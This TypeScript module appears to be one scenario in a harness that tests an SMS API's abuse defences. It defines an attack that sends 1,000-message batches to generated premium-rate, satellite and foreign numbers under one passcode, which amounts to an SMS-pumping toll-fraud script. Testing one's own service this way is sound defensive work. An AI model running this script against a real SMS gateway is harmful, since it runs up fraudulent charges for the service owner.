import { DEMO } from '@ardor/domain/message/demo';
import { Agent } from 'undici';
import { countResults, credentialsOf, IDS_OF_A_BATCH } from '../attack-batches.js';
import type { Attack } from '../attack.js';
import { postJson } from '../post-json.js';

/** First digits of valid numbers, and how many digits follow. */
const DESTINATIONS = [
  { name: 'premium rate +979', prefix: '+9791', digits: 8 },
  { name: 'satellite +881', prefix: '+8816', digits: 8 },
  { name: 'another country +371', prefix: '+3712', digits: 7 },
] as const;

export const attack: Attack = {
  summary:
    'Sends batches of 1,000 messages to premium-rate, satellite and foreign numbers in turn, by one passcode (options client, passcode).',
  run: async ({ api, seconds, option }) => {
    const credentials = credentialsOf(option);
    const agent = new Agent({ connections: 8, headersTimeout: 10_000, bodyTimeout: 10_000 });
    const outcomes = DESTINATIONS.map(() => new Map<string, number>());
    let number = Date.now() % 1_000_000;
    const messageTo = ({ prefix, digits }: (typeof DESTINATIONS)[number]) => ({
      phone_number: prefix + String(number++ % 10 ** digits).padStart(digits, '0'),
      templet_id: DEMO.templateId,
      contents: [{ p1: '8888' }],
    });
    const endsAt = performance.now() + seconds * 1000;
    while (performance.now() < endsAt)
      for (const [index, destination] of DESTINATIONS.entries()) {
        const messages = Array.from({ length: IDS_OF_A_BATCH }, () => messageTo(destination));
        const response = await postJson(`${api}/api/sms/v1/sendsms/batch`, { ...credentials, messages }, agent);
        countResults(outcomes[index] ?? new Map<string, number>(), response);
      }
    await agent.close();
    return DESTINATIONS.flatMap(({ name }, index) =>
      [...(outcomes[index] ?? [])].map(([outcome, count]) => `${name}: ${outcome}: ${count}`),
    );
  },
};
